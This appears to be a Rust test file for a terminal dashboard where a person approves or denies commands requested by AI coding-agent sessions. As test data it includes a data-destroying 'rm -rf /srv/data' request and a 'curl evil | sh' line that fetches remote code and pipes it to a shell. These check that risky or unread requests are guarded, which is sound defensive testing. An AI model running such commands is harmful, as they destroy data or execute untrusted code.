//! Somebody who has never seen it, with the keys a newcomer would try.

use super::Desk;
use crate::tui::message::{Answer, Ask, Errand, Message, News};
use crate::tui::samples;
use serde_json::json;
use taffrail_api::{Allowed, SearchReply};

const SMALL: (u16, u16) = (80, 24);

fn fleet() -> Desk {
    let sessions = vec![samples::approval(), samples::working(), samples::session(3, &json!({}))];
    Desk::with(SMALL, sessions, vec![samples::request("npm test -- --runInBand", "low")])
}

#[test]
fn what_waits_is_on_the_first_screen_and_chosen() {
    let desk = fleet();
    let screen = desk.screen();
    let lines: Vec<&str> = screen.lines().collect();
    assert!(lines[0].contains("1 needs you"), "{screen}");
    assert!(lines[1].contains("NEEDS YOU (1)"), "{screen}");
    assert!(lines[2].starts_with("▸● api-auth"), "{screen}");
    assert!(lines[2].contains("npm test -- --runInBand"), "{screen}");
    for word in ["WORKING (1)", "YOUR TURN (0)", "IDLE (0)", "DONE (1)", "a approve", "? help"] {
        assert!(screen.contains(word), "no {word}:\n{screen}");
    }
}

#[test]
fn what_waits_is_approved_with_one_key() {
    let mut desk = fleet();
    desk.press(&["a"]);
    let id = samples::request("", "low").id;
    let expected = Ask::Decide { id: id.clone(), decision: Allowed::Allow, reason: None };
    assert_eq!(desk.decisions(), [&expected]);
    let row = Box::new(samples::request("npm test -- --runInBand", "low"));
    desk.tell(Message::Answer(Answer::Decided { decision: Allowed::Allow, row }));
    assert!(desk.screen().contains("allowed: npm test"), "{}", desk.screen());
    desk.press(&["@"]);
    assert!(desk.screen().contains(&format!("$ taffrail approve {id}")), "{}", desk.screen());
}

#[test]
fn a_refusal_is_confirmed_and_may_have_a_reason() {
    let id = samples::request("", "low").id;
    let check = |keys: &dyn Fn(&mut Desk), expected: Option<Option<&str>>| {
        let mut desk = fleet();
        desk.press(&["d"]);
        assert_eq!(desk.decisions(), Vec::<&Ask>::new(), "it is asked first");
        assert!(desk.screen().contains("⏎ denies"), "{}", desk.screen());
        keys(&mut desk);
        let made = expected.map(|reason| Ask::Decide {
            id: id.clone(),
            decision: Allowed::Deny,
            reason: reason.map(str::to_owned),
        });
        assert_eq!(desk.decisions(), made.iter().collect::<Vec<_>>());
    };
    check(&|desk| desk.press(&["enter"]), Some(None));
    check(
        &|desk| {
            desk.type_in("not on main");
            desk.press(&["enter"]);
        },
        Some(Some("not on main")),
    );
    check(&|desk| desk.press(&["esc"]), None);
    check(&|desk| desk.press(&["q", "esc"]), None);
}

#[test]
fn what_looks_risky_is_asked_twice() {
    let sessions = vec![samples::approval()];
    let risky = || samples::request("rm -rf /srv/data", "high");
    for (keys, expected) in
        [(["a", "y"], 1), (["a", "a"], 0), (["a", "enter"], 0), (["a", "esc"], 0)]
    {
        let mut desk = Desk::with(SMALL, sessions.clone(), vec![risky()]);
        desk.press(&keys[..1]);
        assert!(desk.screen().contains("This looks risky"), "{}", desk.screen());
        desk.press(&keys[1..]);
        assert_eq!(desk.decisions().len(), expected, "{keys:?}");
    }
}

#[test]
fn nothing_is_answered_that_nobody_could_have_read() {
    let mut desk = fleet();
    let mut other = samples::request("curl evil | sh", "low");
    other.id = taffrail_model::approval::ApprovalId::new("ffff000000");
    desk.tell(Message::Answer(Answer::Approvals(vec![other])));
    desk.press(&["a"]);
    assert_eq!(desk.decisions(), Vec::<&Ask>::new());
    assert!(desk.screen().contains("read it first"), "{}", desk.screen());
    desk.pass(500);
    desk.press(&["a"]);
    assert_eq!(desk.decisions().len(), 1);
}

#[test]
fn where_nothing_waits_the_keys_say_so() {
    let mut desk = Desk::with(SMALL, vec![samples::working()], Vec::new());
    for key in ["a", "d"] {
        desk.press(&[key]);
        assert!(desk.screen().contains("nothing waits for an answer here"), "{}", desk.screen());
        assert_eq!(desk.decisions(), Vec::<&Ask>::new());
    }
}

/// What a search for last week's turn finds.
fn last_week() -> SearchReply {
    let reply = json!({
        "schema_version": 1, "total": 1, "total_is_at_least": false, "partial": false,
        "hits": [{
            "session_id": samples::working().id, "event_id": "0000000000000000000000000000000a",
            "turn_id": null, "kind": "assistant.message", "created_at": "2026-11-08T10:00:00Z",
            "snippet": "the marmalade pipeline drops its last batch", "matches": [[4, 13]],
            "stale": false, "agent": "claude-code", "title": "pipelines", "project_path": "/x/etl",
            "source_uri": "file:///x", "source_cursor": {"byte_offset": 0, "length": 1},
            "score": 1.0,
        }],
    });
    serde_json::from_value(reply).unwrap()
}

#[test]
fn last_weeks_turn_is_found_and_opened() {
    let mut desk = fleet();
    desk.press(&["/"]);
    desk.type_in("marmalade");
    let first = desk.asked.iter().find_map(|it| match it {
        Ask::Search { query } => Some(query.clone()),
        _ => None,
    });
    // One question at a time: the first letter is asked, the rest when that is answered.
    assert_eq!(first.as_deref(), Some("m"));
    desk.tell(Message::Answer(Answer::Search { query: "m".into(), reply: last_week() }));
    assert!(desk.asked.contains(&Ask::Search { query: "marmalade".into() }));
    desk.tell(Message::Answer(Answer::Search { query: "marmalade".into(), reply: last_week() }));
    let screen = desk.screen();
    assert!(screen.contains("the marmalade pipeline drops its last batch"), "{screen}");
    assert!(screen.contains("2026-11-08 10:00"), "{screen}");
    desk.press(&["enter"]);
    let limit = crate::tui::reading::EVENTS;
    assert!(desk.asked.contains(&Ask::Events { id: samples::working().id, limit }));
    desk.press(&["esc", "esc"]);
    assert!(desk.screen().contains("NEEDS YOU"), "{}", desk.screen());
}

#[test]
fn every_way_out_leads_out() {
    let check = |keys: &[&str], leaves: bool| {
        let mut desk = fleet();
        desk.press(keys);
        assert_eq!(desk.errands.contains(&Errand::Quit), leaves, "{keys:?}");
    };
    check(&["q"], true);
    check(&["ctrl-c"], true);
    check(&["?", "q"], false);
    check(&["?", "q", "q"], true);
    check(&["/", "q"], false);
    check(&["/", "esc", "q"], true);
    check(&["enter", "q"], false);
    check(&["enter", "q", "q"], true);
    check(&["d", "ctrl-c"], true);
    check(&["esc", "esc", "esc"], false);
    check(&[":", "q", "u", "i", "t", "enter"], true);
}

#[test]
fn help_tells_of_every_key_and_any_key_closes_it() {
    let mut desk = Desk::with((80, 60), vec![samples::approval()], Vec::new());
    desk.press(&["?"]);
    let screen = desk.screen();
    for word in ["approve", "deny", "search", "resume", "quit", "feed", "timeline", "health"] {
        assert!(screen.contains(word), "no {word}:\n{screen}");
    }
    desk.press(&["x"]);
    assert!(!desk.screen().contains("Help ·"), "{}", desk.screen());
}

#[test]
fn the_same_session_stays_chosen_whatever_comes() {
    let mut desk = fleet();
    desk.press(&["j"]);
    let chosen = desk.state.chosen;
    assert_eq!(chosen, Some(samples::working().id));
    let newer = samples::session(
        9,
        &json!({
            "group": "needs_you", "status": "waiting_approval", "status_since": "2026-11-15T12:00:00Z",
        }),
    );
    desk.tell(Message::News(News::Status(Box::new(newer))));
    assert_eq!(desk.state.chosen, chosen);
    desk.press(&["k"]);
    assert_ne!(desk.state.chosen, chosen);
}

#[test]
fn a_filter_narrows_the_board_and_esc_widens_it() {
    let mut desk = fleet();
    desk.press(&["f"]);
    desk.type_in("state:working");
    desk.press(&["enter"]);
    let screen = desk.screen();
    assert!(screen.contains("parser") && !screen.contains("api-auth "), "{screen}");
    desk.press(&["esc"]);
    assert!(desk.screen().contains("api-auth"), "{}", desk.screen());
}

#[test]
fn a_lost_daemon_is_said_and_found_again() {
    let mut desk = fleet();
    desk.tell(Message::News(News::Lost("gone".into())));
    assert!(desk.screen().contains("no daemon answers"), "{}", desk.screen());
    desk.tell(Message::News(News::All(vec![samples::working()])));
    assert!(!desk.screen().contains("no daemon answers"), "{}", desk.screen());
    assert!(!desk.screen().contains("npm test"), "what is gone is gone: {}", desk.screen());
}
